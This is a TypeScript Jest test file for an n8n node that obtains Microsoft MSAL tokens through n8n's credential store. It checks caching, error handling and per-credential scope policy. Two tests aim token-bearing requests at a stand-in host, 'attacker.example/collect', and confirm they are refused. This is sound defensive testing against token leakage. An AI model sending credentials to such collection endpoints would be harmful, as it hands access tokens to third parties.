import { describe, expect, it } from '@jest/globals';
import type { ICredentialDataDecryptedObject, IDataObject, IExecuteFunctions, IHttpRequestOptions } from 'n8n-workflow';
import type { NodeTokenRequest } from '../../nodes/core/signIn';
import type { TokenOutcome } from '../../nodes/core/tokenResult';
import {
	acquireThroughCredentialStore,
	authenticateRequest,
	CACHE_MARKER_FIELD,
	preAuthenticate,
	outsideAcquisition,
	runThroughCredentialStore,
	SaveThenFail,
	TOKEN_CACHE_FIELD,
	type Acquirer,
} from '../../nodes/n8n/credentialStore';

const TYPE = 'msalClientCredentialsApi';

/**
 * n8n 2.38.7's side of the protocol, as its built code does it:
 * - n8n-core request-helpers/authentication.js httpRequestWithAuthentication: getCredentials
 *   (a fresh copy of the record), credentialsHelper.preAuthentication(…, expired=false),
 *   Object.assign of what it returns, authenticate, send; any error is wrapped in NodeApiError.
 * - cli credentials-helper.js preAuthentication: runs the type's preAuthentication only when
 *   the first hidden expirable field is '' (or expired); saves nothing unless the output holds
 *   that field; otherwise merges the output into the stored record (expression fields kept).
 */
class FakeN8n {
	writes = 0;
	sent: IHttpRequestOptions[] = [];

	constructor(
		public stored: ICredentialDataDecryptedObject,
		private readonly acquire: Acquirer,
		private readonly type = TYPE,
	) {}

	readonly context = {
		helpers: {
			httpRequestWithAuthentication: async (_type: string, requestOptions: IHttpRequestOptions) => {
				const credentials = { ...this.stored };
				try {
					const data = await this.preAuthentication(credentials);
					if (data) Object.assign(credentials, data);
					const authenticated = await authenticateRequest(this.type, credentials, requestOptions, this.acquire);
					this.sent.push(authenticated);
					return {};
				} catch (error) {
					throw Object.assign(new Error('NodeApiError: the request failed'), { cause: error });
				}
			},
		},
	} as unknown as IExecuteFunctions;

	private async preAuthentication(credentials: ICredentialDataDecryptedObject): Promise<IDataObject | undefined> {
		if (credentials[CACHE_MARKER_FIELD] !== '') return undefined;
		const output = await preAuthenticate(this.type, credentials, this.acquire);
		if (output[CACHE_MARKER_FIELD] === undefined) return undefined;
		this.stored = { ...this.stored, ...(output as ICredentialDataDecryptedObject) };
		this.writes += 1;
		return Object.assign(credentials, output);
	}
}

const token = (accessToken: string) => ({
	accessToken,
	tokenType: 'Bearer',
	expiresOn: new Date(Date.now() + 3600_000).toISOString(),
	scopes: ['https://graph.microsoft.com/.default'],
	tenantId: 'tenant',
	fromCache: false,
	correlationId: 'c',
});

/** An acquirer that records what it was given and answers as told. */
function recordingAcquirer(
	answer: (
		stored: string | undefined,
		request: NodeTokenRequest,
	) => TokenOutcome & { fieldsToStore?: Record<string, string> },
) {
	const calls: Array<{ stored: string | undefined; request: NodeTokenRequest }> = [];
	const acquire: Acquirer = async (_data, stored, request) => {
		calls.push({ stored, request });
		return answer(stored, request);
	};
	return { acquire, calls };
}

const record = (fields: ICredentialDataDecryptedObject = {}) => ({
	clientId: 'app',
	// The protocol checks below are about any scope; the credential's policy has its own describe.
	allowedResources: '*',
	[CACHE_MARKER_FIELD]: '',
	[TOKEN_CACHE_FIELD]: 'cache-v1',
	...fields,
});

describe('the credential-store protocol against n8n 2.38.7 behaviour', () => {
	it('runs the acquisition inside preAuthentication with the stored cache and the node request, saves a changed cache, and sends nothing', async () => {
		const { acquire, calls } = recordingAcquirer(() => ({
			token: token('at-1'),
			cacheToStore: 'cache-v2',
			warnings: [],
		}));
		const n8n = new FakeN8n(record(), acquire);
		const outcome = await acquireThroughCredentialStore(n8n.context, TYPE, {
			scopes: 'x/.default',
			forceRefresh: true,
		});
		expect(outcome.token.accessToken).toBe('at-1');
		expect(calls).toEqual([{ stored: 'cache-v1', request: { scopes: 'x/.default', forceRefresh: true } }]);
		expect(n8n.writes).toBe(1);
		expect(n8n.stored[TOKEN_CACHE_FIELD]).toBe('cache-v2');
		expect(n8n.stored[CACHE_MARKER_FIELD]).toBe('');
		expect(n8n.sent).toHaveLength(0);
	});

	it('writes nothing when the cache served the token', async () => {
		const { acquire } = recordingAcquirer(() => ({ token: token('at-cached'), warnings: [] }));
		const n8n = new FakeN8n(record(), acquire);
		expect((await acquireThroughCredentialStore(n8n.context, TYPE, {})).token.accessToken).toBe('at-cached');
		expect(n8n.writes).toBe(0);
		expect(n8n.stored[TOKEN_CACHE_FIELD]).toBe('cache-v1');
	});

	it('still gets a token, unsaved, when n8n skips preAuthentication (marker not empty)', async () => {
		const { acquire, calls } = recordingAcquirer(() => ({
			token: token('at-2'),
			cacheToStore: 'cache-v2',
			warnings: [],
		}));
		const n8n = new FakeN8n(record({ [CACHE_MARKER_FIELD]: 'set-by-hand' }), acquire);
		expect((await acquireThroughCredentialStore(n8n.context, TYPE, {})).token.accessToken).toBe('at-2');
		expect(calls).toHaveLength(1);
		expect(n8n.writes).toBe(0);
		expect(n8n.sent).toHaveLength(0);
	});

	it('SaveThenFail saves its fields, keeps the cache, and the node sees the cause, not n8n’s wrapper', async () => {
		const cause = new Error('Sign-in needed: open https://login/device and enter the code ABC');
		const acquire: Acquirer = async () => {
			throw new SaveThenFail(cause, { pendingSignIn: 'pending-1' });
		};
		const n8n = new FakeN8n(record({ pendingSignIn: '' }), acquire);
		await expect(acquireThroughCredentialStore(n8n.context, TYPE, {})).rejects.toBe(cause);
		expect(n8n.writes).toBe(1);
		expect(n8n.stored.pendingSignIn).toBe('pending-1');
		expect(n8n.stored[TOKEN_CACHE_FIELD]).toBe('cache-v1');
	});

	it('a failed acquisition writes nothing and the node sees the original error', async () => {
		const failure = new Error('AADSTS7000215: The client secret is wrong.');
		const n8n = new FakeN8n(record(), async () => {
			throw failure;
		});
		await expect(acquireThroughCredentialStore(n8n.context, TYPE, {})).rejects.toBe(failure);
		expect(n8n.writes).toBe(0);
	});

	it('work other than a token (Sign Out, sign-in steps) returns its value and saves what it returns', async () => {
		const { acquire, calls } = recordingAcquirer(() => ({ token: token('unused'), warnings: [] }));
		const n8n = new FakeN8n(record({ pendingSignIn: 'old' }), acquire);
		const value = await runThroughCredentialStore(n8n.context, TYPE, async (_data, stored) => ({
			value: `saw ${stored}`,
			cacheToStore: 'cache-signed-out',
			fieldsToStore: { pendingSignIn: '' },
		}));
		expect(value).toBe('saw cache-v1');
		expect(calls).toHaveLength(0);
		expect(n8n.stored).toMatchObject({ [TOKEN_CACHE_FIELD]: 'cache-signed-out', pendingSignIn: '' });
		expect(n8n.writes).toBe(1);
	});

	it("n8n's HTTP Request node path: one acquisition per request, the bearer token added, the token guard applied", async () => {
		const { acquire, calls } = recordingAcquirer(() => ({
			token: token('at-http'),
			cacheToStore: 'cache-v2',
			warnings: [],
		}));
		const n8n = new FakeN8n(record(), acquire);
		await n8n.context.helpers.httpRequestWithAuthentication.call(n8n.context, TYPE, {
			url: 'https://graph.microsoft.com/v1.0/me',
		});
		expect(calls).toHaveLength(1);
		expect(n8n.sent[0].headers).toMatchObject({ Authorization: 'Bearer at-http' });
		expect(n8n.stored[TOKEN_CACHE_FIELD]).toBe('cache-v2');

		const refused = await n8n.context.helpers.httpRequestWithAuthentication
			.call(n8n.context, TYPE, { url: 'https://attacker.example/collect' })
			.catch((e: Error) => e);
		expect(String((refused as { cause?: Error }).cause?.message)).toContain('Refused to send the access token');
		expect(n8n.sent).toHaveLength(1);
	});

	it("a node's pending request is only its own credential type's, and a workflow it starts runs outside it", async () => {
		const seenByOther: NodeTokenRequest[] = [];
		const other: Acquirer = async (_data, _stored, request) => {
			seenByOther.push(request);
			return { token: token('at-other'), warnings: [] };
		};
		const { acquire, calls } = recordingAcquirer(() => ({ token: token('at-own'), warnings: [] }));
		const nested: Acquirer = async (data, stored, request) => {
			// An HTTP Request node of another credential type, and one of the same type in a started workflow.
			await preAuthenticate('msalDeviceCodeApi', record(), other);
			await outsideAcquisition(() => preAuthenticate(TYPE, record(), other));
			return await acquire(data, stored, request);
		};
		const n8n = new FakeN8n(record(), nested);
		const outcome = await acquireThroughCredentialStore(n8n.context, TYPE, { scopes: 'own/.default', claims: '{}' });
		expect(outcome.token.accessToken).toBe('at-own');
		expect(calls[0].request).toEqual({ scopes: 'own/.default', claims: '{}' });
		expect(seenByOther).toEqual([{ signIn: { mode: 'stop' } }, { signIn: { mode: 'stop' } }]);
	});

	it('authenticate forbids cross-origin redirects with the token and refuses a request whose url and uri disagree', async () => {
		const { acquire, calls } = recordingAcquirer(() => ({ token: token('at-http'), warnings: [] }));
		const n8n = new FakeN8n(record(), acquire);
		await n8n.context.helpers.httpRequestWithAuthentication.call(n8n.context, TYPE, {
			url: 'https://graph.microsoft.com/v1.0/me',
		});
		expect(n8n.sent[0]).toMatchObject({ sendCredentialsOnCrossOriginRedirect: false });
		// No cancel signal reaches a wait on this path: a device-code sign-in is forced to stop.
		expect(calls[0].request).toEqual({ signIn: { mode: 'stop' } });

		const refused = await n8n.context.helpers.httpRequestWithAuthentication
			.call(n8n.context, TYPE, {
				url: 'https://graph.microsoft.com/v1.0/me',
				uri: 'https://attacker.example/collect',
			} as IHttpRequestOptions)
			.catch((e: Error) => e);
		expect(String((refused as { cause?: Error }).cause?.message)).toContain('two destinations');
		expect(n8n.sent).toHaveLength(1);
	});
});

describe("the credential's policy, on every path that mints a token", () => {
	const graphOnly = (fields: ICredentialDataDecryptedObject = {}) =>
		record({ scopes: 'https://graph.microsoft.com/.default', allowedResources: '', ...fields });
	const vault = { scopes: 'https://vault.azure.net/.default', scopeOrigin: "the node's Scope" };
	const failure = async (promise: Promise<unknown>) => await promise.then(() => undefined).catch((e: unknown) => e);

	it('a scope for a resource outside Scopes and Allowed Resources is refused before the acquirer runs', async () => {
		const { acquire, calls } = recordingAcquirer(() => ({ token: token('at'), warnings: [] }));
		const n8n = new FakeN8n(graphOnly(), acquire);
		const error = (await failure(acquireThroughCredentialStore(n8n.context, TYPE, vault))) as Error & {
			field?: string;
		};
		expect(error.message).toBe(
			"Refused to request a token for https://vault.azure.net (the node's Scope): this credential is limited to https://graph.microsoft.com (its Scopes and Allowed Resources).",
		);
		expect(error.field).toBe('Allowed Resources');
		expect(calls).toHaveLength(0);
		expect(n8n.writes).toBe(0);

		// The same resource in another spelling is the credential's own: a permission, not .default.
		await acquireThroughCredentialStore(n8n.context, TYPE, { scopes: 'https://graph.microsoft.com/User.Read' });
		expect(calls).toHaveLength(1);
	});

	it('allowed once the resource is in Allowed Resources, or with *', async () => {
		for (const allowedResources of ['https://vault.azure.net', 'api://x, https://vault.azure.net/.default', '*']) {
			const { acquire, calls } = recordingAcquirer(() => ({ token: token('at'), warnings: [] }));
			const n8n = new FakeN8n(graphOnly({ allowedResources }), acquire);
			await acquireThroughCredentialStore(n8n.context, TYPE, vault);
			expect(calls).toHaveLength(1);
		}
	});

	it('also when n8n skips preAuthentication (the token-only request reaches authenticate)', async () => {
		const { acquire, calls } = recordingAcquirer(() => ({ token: token('at'), warnings: [] }));
		const n8n = new FakeN8n(graphOnly({ [CACHE_MARKER_FIELD]: 'not-empty' }), acquire);
		const error = (await failure(acquireThroughCredentialStore(n8n.context, TYPE, vault))) as Error;
		expect(error.message).toContain('Refused to request a token for https://vault.azure.net');
		expect(calls).toHaveLength(0);
	});

	it("n8n's HTTP Request node asks for the credential's own scopes: within the boundary", async () => {
		const { acquire, calls } = recordingAcquirer(() => ({ token: token('at-http'), warnings: [] }));
		const n8n = new FakeN8n(graphOnly({ allowedResources: 'https://vault.azure.net' }), acquire);
		await n8n.context.helpers.httpRequestWithAuthentication.call(n8n.context, TYPE, {
			url: 'https://graph.microsoft.com/v1.0/me',
		});
		expect(calls.map((c) => c.request.scopes)).toEqual([undefined]);
		expect(n8n.sent[0].headers).toMatchObject({ Authorization: 'Bearer at-http' });
	});

	it('Allow Token Output off: a request whose token goes into output is refused first; others are not', async () => {
		const { acquire, calls } = recordingAcquirer(() => ({ token: token('at'), warnings: [] }));
		const n8n = new FakeN8n(graphOnly({ allowTokenOutput: false }), acquire);
		const error = (await failure(acquireThroughCredentialStore(n8n.context, TYPE, { outputsToken: true }))) as Error & {
			field?: string;
		};
		expect(error.message).toContain('Allow Token Output is off');
		expect(error.field).toBe('Allow Token Output');
		expect(calls).toHaveLength(0);
		await acquireThroughCredentialStore(n8n.context, TYPE, {});
		expect(calls).toHaveLength(1);
	});
});
